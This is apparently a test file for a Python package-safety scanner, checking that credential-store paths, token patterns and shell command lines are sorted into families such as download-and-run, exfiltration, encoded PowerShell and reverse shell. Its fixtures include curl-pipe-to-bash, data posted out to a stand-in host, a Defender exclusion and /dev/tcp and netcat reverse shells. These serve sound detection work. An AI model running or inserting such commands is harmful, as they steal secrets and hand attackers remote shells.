"""What strings and command lines say: each family on an example, and not on its neighbour."""

from __future__ import annotations

import base64

import pytest

from safe_pip.extractors.commands import CommandFact, read_command
from safe_pip.extractors.patterns import FAMILIES, mentions
from tests.sources import code_evidence, features

EXAMPLES = {
    "aws": "~/.aws/credentials",
    "ssh": "/home/demo/.ssh/id_rsa",
    "kube": "{}/.kube/config",
    "gcloud": "~/.config/gcloud/credentials.db",
    "azure": "~/.azure/accessTokens.json",
    "npm": "~/.npmrc",
    "pypi": "{}/.pypirc",
    "netrc": "~/.netrc",
    "git": "~/.git-credentials",
    "github": "~/.config/gh/hosts.yml",
    "docker": "~/.docker/config.json",
    "dotenv": "project/.env",
    "history": "~/.bash_history",
    "passwd": "/etc/passwd",
    "gnupg": "~/.gnupg/",
    "keychain": "security find-generic-password -wa Chrome",
    "vault": "~/.vault-token",
    "wifi": "netsh wlan show profile",
    "browser": r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data",
    "discord": r"%APPDATA%\discordcanary\Local Storage",
    "wallet": r"%APPDATA%\Exodus\exodus.wallet",
    "messenger": r"%APPDATA%\Telegram Desktop\tdata",
    "discord-token": r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}",
    "cloud-token": r"ghp_[A-Za-z0-9]{36}",
    "crypto-address": r"^0x[a-fA-F0-9]{40}$",
    "metadata-service": "http://169.254.169.254/latest/meta-data/",
    "ci": "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    "startup": r"Software\Microsoft\Windows\CurrentVersion\Run",
    "shell-profile": "~/.bashrc",
    "agent": "~/.claude/settings.json",
    "publish": "twine upload dist/*",
    "runtime": "https://files.example/stage/update.exe",
    "sandbox": "wireshark.exe",
    "discovery": "https://api.ipify.org?format=json",
    "defender": "Add-MpPreference -ExclusionPath C:",
}


@pytest.mark.parametrize(("family", "text"), EXAMPLES.items(), ids=EXAMPLES)
def test_family_is_found_in_its_example(family: str, text: str) -> None:
    assert family in {mention.family for mention in mentions(text)}


def test_every_family_has_an_example() -> None:
    assert EXAMPLES.keys() == FAMILIES.keys()


@pytest.mark.parametrize(
    "text",
    [
        "Please log in with your data.",
        "https://docs.example/download.html",
        "https://docs.example.exe.com/page",
        "the environment (env) is set",
        r"[\w-]+\.[a-z]{2,24}",
        "0x[0-9a-f]+",
        "Copyright 2024 Example Authors",
        "~/.ssh/known_hosts",
        "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
        "user profile",
        "",
    ],
)
def test_ordinary_strings_are_of_no_family(text: str) -> None:
    assert mentions(text) == ()


def test_distinct_credential_stores_are_counted() -> None:
    source = "A = '~/.ssh/id_rsa'\nB = '~/.aws/credentials'\nC = '~/.npmrc'\nD = '~/.ssh/id_rsa'\n"
    evidence = code_evidence({"pkg/__init__.py": source})
    values = [item.value for item in evidence if item.feature == "secret_path_families"]
    assert max(values) == 3


def test_docstrings_name_nothing() -> None:
    source = '"""Reads ~/.aws/credentials."""\n'
    assert features(code_evidence({"pkg/__init__.py": source})) == set()


ENCODED = base64.b64encode(
    "Invoke-WebRequest -Uri https://x.example/y.exe -OutFile y.exe; Start-Process y.exe".encode(
        "utf-16-le"
    )
).decode()

COMMANDS = {
    "curl -s https://x.example/i.sh | bash": CommandFact.DOWNLOAD_AND_RUN,
    "wget -qO- http://x.example | sudo sh": CommandFact.DOWNLOAD_AND_RUN,
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')": (
        CommandFact.DOWNLOAD_AND_RUN
    ),
    "mshta http://x.example/a.hta": CommandFact.DOWNLOAD_AND_RUN,
    "certutil -urlcache -f http://x/a.exe a.exe": CommandFact.DOWNLOAD,
    "curl -o a.bin https://x.example/a.bin": CommandFact.DOWNLOAD,
    "curl -X POST -d @/etc/hosts https://x.example": CommandFact.EXFILTRATE,
    f"powershell -enc {ENCODED}": CommandFact.ENCODED,
    f"powershell -EncodedCommand {ENCODED}": CommandFact.DOWNLOAD_AND_RUN,
    "echo aGk= | base64 -d | sh": CommandFact.ENCODED,
    "powershell -WindowStyle Hidden -c x": CommandFact.HIDDEN,
    "nohup ./x &": CommandFact.HIDDEN,
    "python -m pip install demo": CommandFact.PIP_INSTALL,
    "twine upload dist/*": CommandFact.PUBLISH,
    "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1": CommandFact.REVERSE_SHELL,
    "nc -e /bin/sh 203.0.113.1 4444": CommandFact.REVERSE_SHELL,
    "nslookup $(whoami).x.example": CommandFact.TELLS_HOST,
    "curl https://x.example": CommandFact.TALKS,
}


@pytest.mark.parametrize(("text", "fact"), COMMANDS.items())
def test_command_line_is_understood(text: str, fact: CommandFact) -> None:
    assert fact in read_command(text).facts


@pytest.mark.parametrize(
    "text",
    [
        "git describe --tags",
        "gcc -print-multiarch",
        "ls -l",
        "python setup.py build",
        "make -j4",
        "",
    ],
)
def test_ordinary_command_lines_say_nothing(text: str) -> None:
    assert read_command(text).facts == frozenset()


def test_python_on_a_command_line_is_read() -> None:
    command = read_command("python3 -c \"import os; os.system('x')\"")
    assert command.python_code == ("import os; os.system('x')",)
    source = "import os\nos.system('python -c \"exec(__import__(\\'urllib.request\\'))\"')\n"
    assert "dyn_exec_unasked" in features(code_evidence({"setup.py": source}))
